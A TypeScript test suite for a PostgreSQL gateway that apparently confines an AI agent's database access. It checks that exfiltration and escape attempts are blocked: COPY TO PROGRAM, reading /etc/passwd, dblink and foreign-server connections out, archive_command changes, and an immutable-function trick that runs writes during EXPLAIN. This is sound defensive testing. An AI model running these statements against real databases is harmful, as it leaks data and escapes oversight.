/**
 * Rows Q2 to Q8 and Q11 of the threat model, sent by a real client through the real lane to a real server, as a role that may do
 * anything: what the gateway lets pass under a policy of reads changes nothing, what leads out of the database reaches nobody, and
 * no session has anything of another's. The readings alone are corpus.test.ts; what the server does with reads, server.test.ts.
 */
import { existsSync, readdirSync } from "node:fs";
import net, { type AddressInfo } from "node:net";
import path from "node:path";
import type { Client } from "pg";
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { type PostgresServer, postgresBinaries, startPostgres } from "../../../tools/postgres/server.ts";
import type { PostgresGateway } from "../../integration/postgres-gateway.ts";
import { requireThat } from "../../support/require.ts";
import { corpus, type Row } from "./corpus.ts";
import { agentOf, laneBefore, type POLICIES } from "./support/lane.ts";
import { attempt, connect } from "./support/session.ts";
import { CHEAP, differences, stateOf } from "./support/state.ts";
import { AGENT, AGENT_PASSWORD, WORLD } from "./support/world.ts";

vi.setConfig({ testTimeout: 300_000, hookTimeout: 120_000 });

const INJECTED = { user: AGENT, password: AGENT_PASSWORD };
let server: PostgresServer | undefined;
let owner: Client | undefined;
const open: PostgresGateway[] = [];

beforeAll(async () => {
  if (postgresBinaries() === null) return;
  server = await startPostgres(["autovacuum = off", "checkpoint_timeout = 1h", "wal_level = logical"]);
  owner = await connect(server, "owner");
  await owner.query(WORLD);
  await owner.query("CREATE EXTENSION dblink; CREATE EXTENSION postgres_fdw; CREATE EXTENSION adminpack");
});
afterAll(async () => {
  for (const gateway of open) await gateway.close();
  await owner?.end();
  await server?.stop();
});
beforeEach((context) => requireThat(context, server !== undefined, "no PostgreSQL server: apt-get install postgresql"));

async function gatewayOf(policy: keyof typeof POLICIES, readOnly = false): Promise<PostgresGateway> {
  const gateway = await laneBefore(server!, policy, INJECTED, readOnly);
  open.push(gateway);
  return gateway;
}

const rowsOf = (...sections: readonly string[]): readonly Row[] =>
  corpus("not-reads.md").filter((row) => sections.some((section) => row.section.startsWith(section)));
const xid = async (): Promise<string> => (await owner!.query<{ xid: string }>(CHEAP)).rows[0]!.xid;
const marks = async (): Promise<number> => (await owner!.query("SELECT FROM marks")).rows.length;

/** Each in both protocols, in a new session unless the one before was denied; what had an effect. */
async function played(gateway: PostgresGateway, texts: readonly string[]): Promise<readonly string[]> {
  const acted: string[] = [];
  let client: Client | null = null;
  for (const sql of texts)
    for (const extended of [false, true]) {
      const before = await xid();
      client ??= await agentOf(gateway);
      const told = extended ? await extendedly(client, sql) : await attempt(client, sql);
      if ((await xid()) !== before) acted.push(sql);
      if (told?.startsWith("sidegate: ") === true) continue;
      await client.end().catch(() => undefined);
      client = null;
    }
  await client?.end();
  return acted;
}

/** As `attempt`, by Parse, Bind and Execute. */
async function extendedly(client: Client, sql: string): Promise<string | null> {
  const failed = await client.query({ text: sql, values: [] }).catch((cause: unknown) => cause);
  return failed instanceof Error ? failed.message : null;
}

test.each([
  ["Q3", ["Q3", "What", "Where"]],
  ["Q4", ["Q4"]],
  ["Q2 and Q8", ["Q2", "Q7 and Q8"]],
] as const)(
  "%s: no statement of the corpus acts through a gateway that allows reads, and the server stays as it was",
  async (_row, sections) => {
    const gateway = await gatewayOf("reads");
    const rows = rowsOf(...sections);
    expect(rows.length).toBeGreaterThan(15);
    const before = await stateOf(server!, owner!);
    expect(
      await played(
        gateway,
        rows.map((row) => row.sql),
      ),
    ).toEqual([]);
    expect(differences(before, await stateOf(server!, owner!))).toEqual([]);
    expect(gateway.faults).toEqual([]);
    const asked = gateway.records().filter(({ op }) => op.verdict === "deny").length;
    expect(asked).toBeGreaterThan(rows.length / 2);
  },
);

describe("Q6: the way out", () => {
  test("is closed under a policy that allows everything but names nothing: nobody is called, no file is made", async () => {
    const gateway = await gatewayOf("anything");
    const called: string[] = [];
    const listener = net.createServer((socket) => {
      called.push(`${socket.remotePort}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const { port } = listener.address() as AddressInfo;
    const files = (): readonly string[] => readdirSync(server!.folder);
    const before = [files(), await catalogueOut()];
    const texts = [...rowsOf("Q6").map((row) => row.sql), ...waysOut(port, server!.folder)];
    for (const sql of texts)
      for (const extended of [false, true]) {
        const client = await agentOf(gateway);
        await (extended ? extendedly : attempt)(client, sql);
        await client.end().catch(() => undefined);
        expect([sql, called, existsSync(path.join(server!.folder, "out"))]).toEqual([sql, [], false]);
      }
    listener.close();
    expect([files(), await catalogueOut()]).toEqual(before);
    expect(gateway.faults).toEqual([]);
  });

  test("leads out without the gateway, so the attempts mean something", async () => {
    let called = 0;
    const listener = net.createServer((socket) => {
      called++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const client = await connect(server!);
    for (const sql of waysOut((listener.address() as AddressInfo).port, server!.folder)) await attempt(client, sql);
    await client.end();
    listener.close();
    expect(called).toBeGreaterThanOrEqual(2);
    expect(existsSync(path.join(server!.folder, "out"))).toBe(true);
    await owner!.query(`DROP SCHEMA IF EXISTS far CASCADE; DROP SERVER IF EXISTS far CASCADE; DROP TABLE IF EXISTS read_in;
      SELECT lo_unlink(oid) FROM pg_largeobject_metadata`);
  });
});

/** What leads to `port` of this machine, or to a file `out` in `folder`. */
function waysOut(port: number, folder: string): readonly string[] {
  const to = `host=127.0.0.1 port=${port} connect_timeout=3`;
  return [
    `SELECT * FROM dblink('${to}', 'select 1') AS t(a int)`,
    `SELECT dblink_connect('c', '${to}')`,
    `SELECT "dblink_connect"('${to}')`,
    `SELECT public.dblink_connect_u('${to}')`,
    `SELECT U&"dblink\\005fconnect"('${to}')`,
    `COPY (SELECT email FROM customers) TO PROGRAM 'cat > ${folder}/out'`,
    `COPY customers TO '${folder}/out'`,
    `COPY marks (who) FROM PROGRAM 'echo x > ${folder}/out; echo y'`,
    `SELECT lo_export(lo_from_bytea(0, 'x'), '${folder}/out')`,
    `SELECT pg_catalog.pg_file_write('${folder}/out', 'x', false)`,
    `SELECT lo_import('/etc/passwd')`,
    `SELECT pg_read_file('/etc/passwd')`,
    `CREATE TABLE read_in (x text); COPY read_in FROM '/etc/passwd'`,
    `CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '${port}'); CREATE USER MAPPING FOR PUBLIC SERVER far; CREATE SCHEMA far; IMPORT FOREIGN SCHEMA public FROM SERVER far INTO far`,
    `CREATE SUBSCRIPTION far CONNECTION '${to}' PUBLICATION p`,
    `ALTER SYSTEM SET archive_command = 'cat > ${folder}/out'`,
    `ALTER SYSTEM SET primary_conninfo = '${to}'`,
    `SELECT pg_create_physical_replication_slot('far', true)`,
    `WITH x AS (SELECT dblink_send_query('c', 'select 1')) SELECT * FROM x`,
    `SELECT query_to_xml('SELECT dblink_connect(''${to}'')', true, true, '')`,
    `DO $$ BEGIN PERFORM dblink_connect('${to}'); END $$`,
    `EXPLAIN ANALYZE SELECT dblink_connect('${to}')`,
    `CREATE VIEW far_view AS SELECT dblink_connect('${to}')`,
    `CREATE TABLE far_table (a text DEFAULT dblink_connect('${to}')); INSERT INTO far_table DEFAULT VALUES`,
    `LOAD '${folder}/out.so'`,
  ];
}

async function catalogueOut(): Promise<unknown> {
  const { rows } =
    await owner!.query(`SELECT (SELECT count(*) FROM pg_foreign_server) AS servers, (SELECT count(*) FROM pg_subscription) AS subscriptions,
    (SELECT count(*) FROM pg_largeobject_metadata) AS objects, (SELECT count(*) FROM pg_replication_slots) AS slots,
    (SELECT count(*) FROM pg_user_mapping) AS mappings, (SELECT count(*) FROM pg_class WHERE relname LIKE 'far%' OR relname = 'read_in') AS tables`);
  return rows;
}

describe("Q7: a plan", () => {
  // In a function that is called immutable PostgreSQL allows no INSERT; a connection of its own is nobody's business.
  const FAR = `CREATE FUNCTION far_immutable() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
    PERFORM dblink_exec('host=' || split_part(current_setting('unix_socket_directories'), ',', 1) || ' user=owner dbname=postgres port=' || current_setting('port'),
      'INSERT INTO marks (who) VALUES (''far'')'); RETURN 1; END $$;
    CREATE OPERATOR public.<~~> (LEFTARG = int, RIGHTARG = int, FUNCTION = far_operator)`;
  const OPERATOR = `CREATE FUNCTION far_operator(int, int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT far_immutable()'`;
  const PLANS = [
    "EXPLAIN SELECT far_immutable()",
    "EXPLAIN SELECT * FROM orders WHERE id = far_immutable()",
    "EXPLAIN (ANALYZE off, VERBOSE) SELECT public.far_immutable() + 1",
    "EXPLAIN (FORMAT json) WITH x AS (SELECT far_immutable()) SELECT * FROM x",
    "EXPLAIN INSERT INTO secrets VALUES (far_immutable(), 'x')",
    "EXPLAIN UPDATE secrets SET word = 'x' WHERE id = far_immutable()",
    "EXPLAIN SELECT 1 <~~> 2",
    "EXPLAIN SELECT * FROM orders ORDER BY 1 <~~> 2 LIMIT far_immutable()",
  ];
  beforeAll(async () => {
    await owner?.query("SET check_function_bodies = off");
    await owner?.query(OPERATOR);
    await owner?.query(FAR);
  });

  test("of an immutable function of somebody's really runs it, where nothing stands between", async () => {
    const before = await marks();
    const client = await connect(server!);
    for (const sql of PLANS) await attempt(client, sql);
    await client.end();
    expect(await marks()).toBeGreaterThan(before + 3);
  });

  test.each(["reads", "rows", "anything"] as const)(
    "of anything that is not built in is not made (policy: %s)",
    async (policy) => {
      const gateway = await gatewayOf(policy);
      const before = await marks();
      for (const sql of PLANS) {
        const client = await agentOf(gateway);
        expect(await attempt(client, sql), sql).toMatch(/^sidegate: |does not exist/);
        // Nor by preparing it: the server plans at Bind, and reads types at Parse.
        await client.query({ text: sql, values: [], name: "plan" }).catch(() => undefined);
        await client.end();
      }
      expect(await marks()).toBe(before);
    },
  );

  test("is never asked for by the gateway itself: what is denied or held, the server does not hear of", async () => {
    let heard = "";
    const relay = net.createServer((socket) => {
      const upstream = net.connect(server!.port, "127.0.0.1");
      socket.on("data", (bytes) => (heard += bytes.toString("latin1")));
      socket.pipe(upstream).pipe(socket);
      for (const end of [socket, upstream]) end.on("error", () => undefined);
    });
    await new Promise<void>((resolve) => relay.listen(0, "127.0.0.1", resolve));
    const port = (relay.address() as AddressInfo).port;
    const gateway = await laneBefore({ ...server!, port }, "reads", INJECTED);
    open.push(gateway);
    const decide = gateway.policy;
    for (const effect of ["deny", "hold"] as const) {
      if (effect === "hold")
        gateway.policy = (input) => (input.action === "execute" ? { ...decide(input), effect } : decide(input));
      const client = await agentOf(gateway);
      expect(await attempt(client, "SELECT count(*) FROM orders")).toBeNull();
      expect(await attempt(client, "SELECT far_immutable()")).toMatch(/^sidegate: /);
      await client.end();
    }
    relay.close();
    expect(heard).toContain("SELECT count(*) FROM orders");
    expect(heard).not.toMatch(/far_immutable|explain/i);
  });
});

describe("Q11: another session", () => {
  /** The agent's role's sessions at the server, with what they are at. */
  const sessions = async (): Promise<readonly { readonly pid: number; readonly state: string }[]> =>
    (
      await owner!.query<{ pid: number; state: string }>(
        `SELECT pid, state FROM pg_stat_activity WHERE usename = '${AGENT}'`,
      )
    ).rows;
  const pids = async (): Promise<readonly number[]> => (await sessions()).map(({ pid }) => pid);
  /** Each look is a round trip. */
  const until = async (is: () => Promise<boolean>, what: string): Promise<void> => {
    const end = Date.now() + 20_000;
    while (!(await is())) if (Date.now() > end) throw new Error(`not in time: ${what}`);
  };

  test("has nothing of the one before: settings, temporary tables, listeners, prepared statements, cursors", async () => {
    const gateway = await gatewayOf("anything");
    const first = await agentOf(gateway);
    for (const sql of [
      "SET search_path = pg_catalog",
      "SET statement_timeout = '7s'",
      "SET TIME ZONE 'Pacific/Chatham'",
      "SET DateStyle = 'German'",
      "CREATE TEMP TABLE left_behind (a int)",
      "CREATE TEMP VIEW orders AS SELECT 'shadow' AS note",
      "LISTEN left_behind",
      "PREPARE left_behind AS SELECT 1",
      "DECLARE left_behind CURSOR WITH HOLD FOR SELECT 1",
    ])
      expect([sql, await attempt(first, sql)]).toEqual([sql, null]);
    await first.query({ text: "SELECT 1", name: "left_behind_too" });
    await first.end();
    // Once with the session that the first one had, if it waits; and at once, when it may still be on its way back.
    for (let i = 0; i < 3; i++) {
      const second = await agentOf(gateway);
      const heard: string[] = [];
      second.on("notification", ({ channel }) => heard.push(channel));
      for (const name of ["TimeZone", "DateStyle"])
        expect((await second.query(`SHOW ${name}`)).rows).toEqual((await owner!.query(`SHOW ${name}`)).rows);
      expect((await second.query("SHOW search_path")).rows).toEqual([{ search_path: '"$user", public' }]);
      expect((await second.query("SELECT note FROM orders ORDER BY id LIMIT 1")).rows).toEqual([{ note: "note 1" }]);
      for (const sql of ["SELECT * FROM left_behind", "EXECUTE left_behind", "FETCH ALL FROM left_behind"])
        expect([sql, await attempt(second, sql)]).toEqual([sql, expect.stringMatching(/does not exist|sidegate: /)]);
      await owner!.query("NOTIFY left_behind");
      await second.query("SELECT 1");
      expect(heard).toEqual([]);
      await second.end();
    }
    expect(gateway.faults).toEqual([]);
  });

  test("is another one at the server, where it starts with other settings or for another database", async () => {
    await owner!.query("CREATE DATABASE elsewhere");
    const gateway = await gatewayOf("anything");
    const known = await pids();
    const seen = new Set<number>();
    for (const more of [{}, { application_name: "other" }, { database: "elsewhere" }]) {
      const client = await agentOf(gateway, more);
      const added = (await pids()).filter((pid) => !known.includes(pid) && !seen.has(pid));
      expect(added).toHaveLength(1);
      for (const pid of added) seen.add(pid);
      await client.end();
    }
    expect(seen.size).toBe(3);
  });

  test("finds no open transaction or lock of one that broke off, and never gets that one", async () => {
    const gateway = await gatewayOf("anything");
    const first = await agentOf(gateway);
    await first.query("BEGIN");
    await first.query("UPDATE secrets SET word = 'half' WHERE id > 0");
    const broken = (await sessions()).filter(({ state }) => state === "idle in transaction").map(({ pid }) => pid);
    expect(broken).toHaveLength(1);
    // Without a Terminate.
    (first as unknown as { connection: { stream: net.Socket } }).connection.stream.destroy();
    await until(
      async () => !(await pids()).some((pid) => broken.includes(pid)),
      "the session that broke off has ended",
    );
    const second = await agentOf(gateway);
    expect((await second.query("SELECT count(*) FROM secrets WHERE word = 'half'")).rows).toEqual([{ count: "0" }]);
    await second.query("UPDATE secrets SET word = word WHERE id > 0");
    await second.end();
  });

  test("is not given one that loaded something, or talks to another server: DISCARD ALL undoes neither", async () => {
    const gateway = await gatewayOf("everything");
    for (const [does, shows] of [
      [
        "SELECT dblink_connect('kept', 'host=' || split_part(current_setting('unix_socket_directories'), ',', 1) || ' user=owner dbname=postgres port=' || current_setting('port'))",
        "SELECT dblink_get_connections() IS NULL AS nothing",
      ],
      ["SET kept.secret = 'x'", "SELECT current_setting('kept.secret', true) IS NULL AS nothing"],
    ] as const) {
      const first = await agentOf(gateway);
      const told = await attempt(first, does);
      await first.end();
      expect([does, told]).toEqual([does, null]);
      for (let i = 0; i < 3; i++) {
        const second = await agentOf(gateway);
        expect([does, (await second.query(shows)).rows]).toEqual([does, [{ nothing: true }]]);
        await second.end();
      }
    }
  });
});
